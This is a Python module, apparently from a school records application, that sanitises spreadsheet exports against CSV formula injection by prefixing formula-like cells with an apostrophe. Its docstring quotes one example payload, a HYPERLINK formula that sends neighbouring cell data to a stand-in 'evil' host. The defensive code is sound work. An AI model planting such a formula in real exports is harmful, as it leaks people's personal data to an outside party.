"""Spreadsheet cells that stay data: the one guard every CSV and Excel export goes through.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheet programs skip before such a character) is read as a formula when the file
is opened: a pupil named ``=HYPERLINK("http://evil/?"&A1,"click")`` would send the
neighbouring cells away, ``+1+2`` would show 3 (OWASP "CSV Injection"). Such text is
written with a leading apostrophe, which Excel, LibreOffice and WPS show as plain text.
Input is refused at the door as well (:func:`formula_like`, roster import and pupil form),
so the guard on export only matters for data that predates that check.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
"""First characters a spreadsheet may read as a formula (full-width forms included: WPS
and Excel in Chinese input mode turn them into formulas too)."""


# A plain signed number ("-1.25" dioptres, "+0.50") is read as that number, not run as a
# formula: it stays as it is, so measurements keep their values. "-2+3" is not one.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def formula_like(text: str | None) -> bool:
    """Whether ``text`` would be evaluated as a formula by a spreadsheet program."""
    if not text:
        return False
    stripped = str(text).strip(" ")
    return stripped.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(stripped)


def safe_cell(value: Any) -> Any:
    """``value`` made safe for a CSV or Excel cell; numbers, dates and None pass unchanged.

    Only strings change: one that a spreadsheet would evaluate gets a leading apostrophe.
    Numbers, and text that is a plain signed number ("-1.25"), stay as they are.
    """
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value
